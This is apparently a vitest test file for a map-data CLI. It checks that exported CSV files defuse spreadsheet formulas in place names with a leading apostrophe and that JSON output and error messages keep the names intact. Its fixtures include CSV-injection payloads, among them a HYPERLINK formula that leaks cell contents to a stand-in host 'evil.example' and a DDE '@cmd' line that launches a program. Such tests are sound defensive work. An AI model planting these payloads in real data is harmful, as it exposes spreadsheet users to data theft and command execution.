/**
 * Hostile strings in OSM names and the region name: quotes, commas, newlines, tabs and
 * spreadsheet formulas come out of every CSV neutralised (a leading apostrophe) and parseable,
 * with a BOM; JSON and error messages keep them intact and on one line.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { EXIT, expectFailure, expectOk, parseCsv, quarter, readCsv, scratch, tinyOsm, type TinyPoi } from './helpers.js';

const dir = scratch('hostile');
const region = join(dir, 'evil.quarter');
const run = (args: string[]) => quarter(args, { cwd: dir, region });

const REGION_NAME = 'Evil "Town", =HYPERLINK("http://evil.example","x")\nsecond line';
const NAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  'Apotheke "Zum Löwen", Krems',
  'Line one\nLine two\r\nLine three',
  '+SUM(1,2)',
  '-2+3',
  '@cmd|\' /C calc\'!A0',
  '\tTabbed',
  '中文药店，一刻钟',
  'plain',
];
const POIS: TinyPoi[] = NAMES.map((name, k) => ({ name, tags: { amenity: 'pharmacy' }, at: [20 + (k % 3) * 100, 15 + Math.floor(k / 3) * 100] }));

/** What a CSV cell must hold for a name: formulas defused with a leading apostrophe. */
const neutral = (s: string): string => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

beforeAll(() => {
  writeFileSync(join(dir, 'evil.osm'), tinyOsm(POIS));
  const r = quarter(['import', 'evil.osm', '-o', region, '--name', REGION_NAME, '--json'], { cwd: dir });
  expectOk(r);
  const meta = JSON.parse(r.stdout).meta;
  expect(meta.report.facilities.byFormat.pharmacy).toBe(NAMES.length);
});

describe('region name', () => {
  test('kept exactly in the region file', () => {
    const info = JSON.parse(run(['info', '--json']).stdout);
    expect(info.name).toBe(REGION_NAME);
  });

  test('an error message quoting it stays on one line and complete', () => {
    const line = expectFailure(run(['nearest', '--at', '10,10']), EXIT.noResult, /--at 10,10 is outside the data of region /);
    expect(line).toContain(JSON.stringify(REGION_NAME));
    expect(line).toMatch(/\(lon [\d.]+…[\d.]+, lat [\d.]+…[\d.]+\)$/);
    const line2 = expectFailure(run(['access', '--format', 'supermarket']), EXIT.noResult, /has no facility of format "supermarket"/);
    expect(line2).toContain(JSON.stringify(REGION_NAME));
  });
});

describe('POI names in CSV', () => {
  test('export facilities.csv: BOM, parseable, every name neutralised and intact', () => {
    expectOk(run(['export', '-o', 'csv']));
    const raw = readFileSync(join(dir, 'csv', 'facilities.csv'), 'utf8');
    expect(raw.startsWith('\uFEFF')).toBe(true);
    const t = readCsv(join(dir, 'csv', 'facilities.csv'));
    expect(t.rows).toHaveLength(NAMES.length);
    expect(t.rows.map((r) => r.name).sort()).toEqual(NAMES.map(neutral).sort());
    for (const r of t.rows) {
      expect(r.format).toBe('pharmacy');
      expect(Number.isFinite(Number(r.lon)) && Number.isFinite(Number(r.lat))).toBe(true);
      expect(r.edge).not.toBe(''); // all on the grid
    }
    // no cell a spreadsheet would evaluate: nothing starts with = + - @ tab CR unless it is a number
    const cells = parseCsv(raw.slice(1)).flat();
    for (const c of cells) if (/^[=+\-@\t\r]/.test(c)) expect(Number.isFinite(Number(c)), c).toBe(true);
  });

  test('access CSV: the nearest pharmacy names are neutralised and intact', () => {
    expectOk(run(['access', '--format', 'pharmacy', '-o', 'access.csv']));
    const raw = readFileSync(join(dir, 'access.csv'), 'utf8');
    expect(raw.startsWith('\uFEFF')).toBe(true);
    const t = readCsv(join(dir, 'access.csv'));
    expect(t.header).toEqual(['node', 'lon', 'lat', 'minutes', 'facility', 'name']);
    expect(t.rows.length).toBe(16); // the 4 × 4 grid
    const names = new Set(NAMES.map(neutral));
    for (const r of t.rows) {
      expect(r.minutes).not.toBe('');
      expect(names.has(r.name), r.name).toBe(true);
    }
    const cells = parseCsv(raw.slice(1)).flat();
    for (const c of cells) if (/^[=+\-@\t\r]/.test(c)) expect(Number.isFinite(Number(c)), c).toBe(true);
  });

  test('JSON output keeps the names exactly', () => {
    const r = run(['access', '--format', 'pharmacy', '-o', 'access.geojson']);
    expectOk(r);
    const gj = JSON.parse(readFileSync(join(dir, 'access.geojson'), 'utf8')) as { features: Array<{ properties: { name: string } }> };
    for (const f of gj.features) expect(NAMES).toContain(f.properties.name);
    const n = run(['nearest', '--json', '--at', '15.6010,48.4005']);
    expectOk(n);
    const pharmacy = (JSON.parse(n.stdout).formats as Array<{ format: string; nearest: { name: string } | null }>).find((f) => f.format === 'pharmacy');
    expect(NAMES).toContain(pharmacy?.nearest?.name);
  });
});
